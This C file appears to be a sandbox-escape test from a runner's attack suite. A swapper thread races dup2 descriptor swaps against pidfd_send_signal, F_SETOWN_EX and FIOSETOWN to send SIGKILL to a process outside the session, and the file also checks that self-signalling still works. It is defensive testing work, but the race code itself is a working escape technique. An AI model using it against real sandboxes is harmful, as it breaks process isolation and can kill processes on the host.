/* Escape attempt: signal the process outside the session (ATTACK_VICTIM) through a
 * descriptor number that a second thread swaps between the check and the kernel's own
 * look-up (dup2), for ~1.5 s per round:
 *  1. pidfd_send_signal(N, SIGKILL), N flipping between /dev/null (no pidfd: nothing to
 *     decide) and the victim's /proc/PID directory, which the call also takes as a pidfd
 *     (the runner's profile lets /proc be read for this: ATTACK_EXTRA_READ);
 *  2. fcntl(N, F_SETOWN_EX, victim), N flipping between closed and one end of a socket
 *     pair: an owner set on the socket then gets its SIGIO, which F_SETSIG makes SIGKILL;
 *  3. ioctl(N, FIOSETOWN, victim), N flipping between a pipe and the socket.
 * When the socket's owner is the victim, the I/O signal is armed and triggered. The runner
 * checks the victim lives. Exit 1 when a signal was sent or the owner was set. */
#include "attack.h"
#include <pthread.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#define N 200
static volatile int stop;
static int a_fd, b_fd; /* what the swapper puts on N; -1: close N */

static void* swapper(void* arg) {
  (void)arg;
  while (!stop) {
    dup2(a_fd, N);
    if (b_fd < 0) close(N);
    else dup2(b_fd, N);
  }
  return NULL;
}

static void run_swapper(pthread_t* t, int a, int b) {
  stop = 0;
  a_fd = a;
  b_fd = b;
  pthread_create(t, NULL, swapper, NULL);
}

static void end_swapper(pthread_t t) {
  stop = 1;
  pthread_join(t, NULL);
}

/* The owner of the socket is the victim: arm SIGKILL as its I/O signal and trigger it. */
static int owned_by(int sock, int peer, pid_t victim) {
  struct f_owner_ex ex;
  if (fcntl(sock, F_GETOWN_EX, &ex) != 0 || ex.pid != victim) return 0;
  printf("the socket's owner is the victim\n");
  fcntl(sock, F_SETSIG, SIGKILL);
  fcntl(sock, F_SETFL, fcntl(sock, F_GETFL) | O_ASYNC);
  write(peer, "x", 1);
  return 1;
}

int main(int argc, char** argv) {
  fixture(argc, argv);
  pid_t victim = (pid_t)atoi(env_or("ATTACK_VICTIM", "0"));
  if (victim <= 0) { printf("no ATTACK_VICTIM\n"); return 2; }
  int escaped = 0;
  pthread_t t;
  int null_fd = open("/dev/null", O_RDONLY);

  char dir[64];
  snprintf(dir, sizeof dir, "/proc/%d", (int)victim);
  int vdir = open(dir, O_RDONLY | O_DIRECTORY);
  if (vdir < 0) {
    printf("round 1 skipped: open %s: %s\n", dir, strerror(errno));
  } else {
    if (syscall(SYS_pidfd_send_signal, vdir, SIGKILL, NULL, 0) == 0) {
      printf("pidfd_send_signal on the victim's /proc directory: sent\n");
      escaped = 1;
    }
    run_swapper(&t, null_fd, vdir);
    long sent = 0, tries = 0;
    for (double end = now() + 1.5; now() < end && !sent; ++tries)
      if (syscall(SYS_pidfd_send_signal, N, SIGKILL, NULL, 0) == 0) sent = 1;
    end_swapper(t);
    printf("round 1: %ld calls, %s\n", tries, sent ? "SIGKILL sent" : "nothing sent");
    escaped |= sent;
  }

  int sv[2], pp[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0 || pipe(pp) != 0) { perror("socketpair"); return 2; }
  struct f_owner_ex ex = {F_OWNER_PID, victim};
  run_swapper(&t, sv[0], -1);
  long tries = 0;
  int got = 0;
  for (double end = now() + 1.5; now() < end && !got; ++tries)
    if (fcntl(N, F_SETOWN_EX, &ex) == 0) got = owned_by(sv[0], sv[1], victim);
  end_swapper(t);
  printf("round 2: %ld calls, %s\n", tries, got ? "owner set" : "owner never set");
  escaped |= got;

  int who = victim;
  run_swapper(&t, pp[0], sv[0]);
  tries = 0;
  got = 0;
  for (double end = now() + 1.5; now() < end && !got; ++tries)
    if (ioctl(N, FIOSETOWN, &who) == 0) got = owned_by(sv[0], sv[1], victim);
  end_swapper(t);
  printf("round 3: %ld calls, %s\n", tries, got ? "owner set" : "owner never set");
  escaped |= got;
  /* What must still work: one's own socket's owner, a signal to oneself by pidfd. */
  int self = getpid();
  if (ioctl(sv[0], FIOSETOWN, &self) != 0) { printf("FAIL: FIOSETOWN on oneself: %s\n", strerror(errno)); return 3; }
  int me = (int)syscall(SYS_pidfd_open, getpid(), 0);
  if (me < 0 || syscall(SYS_pidfd_send_signal, me, 0, NULL, 0) != 0) {
    printf("FAIL: pidfd_send_signal to oneself: %s\n", strerror(errno));
    return 3;
  }
  fflush(stdout);
  return escaped;
}
